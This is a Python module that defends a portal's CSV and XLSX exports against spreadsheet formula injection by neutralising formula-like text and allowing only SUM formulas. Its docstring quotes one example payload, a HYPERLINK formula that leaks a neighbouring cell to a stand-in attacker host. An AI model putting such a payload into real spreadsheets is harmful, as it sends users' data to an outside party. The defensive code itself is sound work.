"""The one guard for every CSV and XLSX file the portal writes: text stays text.

A spreadsheet program runs a cell whose text starts with = + - or @ (or a tab or carriage
return, which some programs skip first) as a formula: a narrative typed as
=HYPERLINK("http://evil.example/?leak="&B2,"Click") becomes a link that sends the next
cell away once a donor clicks it (OWASP "CSV injection"). The only formulas the portal
writes are its own totals (SUM over cell references, own_formula_set, after the guard), so
every text cell it writes is data:

- CSV: inert_cell(value) puts an apostrophe before formula-like text, which spreadsheet
  programs show as text;
- XLSX: inert_workbook(workbook), called just before saving, makes every text cell a
  string cell (openpyxl would otherwise store "=..." as a formula) and marks the
  formula-like ones quote-prefixed, so they stay text even when someone edits them.

Numbers stay numbers: Decimal, int and float values are left alone, and so is text that is
exactly a decimal number ("-12.50", the API's decimals), negative ones included.
"""

import re

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

# Full-width forms too: some spreadsheet programs read them as the ASCII ones.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def formula_like(text: str) -> bool:
    """Whether a spreadsheet could take `text` for a formula: it starts like one and is
    not simply a number."""
    return text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text)


def inert_cell(value):
    """`value` as a CSV field may carry it: formula-like text with a leading apostrophe,
    anything else (numbers, other text, dates, None) unchanged."""
    if isinstance(value, str) and formula_like(value):
        return "'" + value
    return value


def xlsx_value(value):
    """`value` as an XLSX cell may hold it: control characters that XML forbids (a vertical
    tab or form feed pasted from a word processor) become spaces; openpyxl would refuse
    the whole file for one of them."""
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub(" ", value)
    return value


def xlsx_row(values) -> list:
    return [xlsx_value(value) for value in values]


def inert_workbook(workbook: Workbook) -> Workbook:
    """Every text cell of every sheet a string cell, formula-like ones quote-prefixed;
    numbers (Decimal included), dates and empty cells untouched. Returns `workbook`."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
                    if formula_like(cell.value):
                        cell.quotePrefix = True
    return workbook


# The portal's own formulas: SUM over cell references (A1, A1:B9, comma-separated), nothing
# else, so no text anyone typed can ever make one.
_OWN_FORMULA = re.compile(
    r"=SUM\([A-Z]{1,3}[0-9]+(:[A-Z]{1,3}[0-9]+)?(,[A-Z]{1,3}[0-9]+(:[A-Z]{1,3}[0-9]+)?)*\)"
)


def own_formula_set(cell, formula: str) -> None:
    """Write one of the portal's own formulas (a report's total) into `cell`, after
    inert_workbook ran: only SUMs of cell references are accepted (ValueError otherwise)."""
    if not _OWN_FORMULA.fullmatch(formula):
        raise ValueError(f"Not one of the portal's own formulas: {formula!r}")
    cell.value = formula
    cell.data_type = "f"
    cell.quotePrefix = False
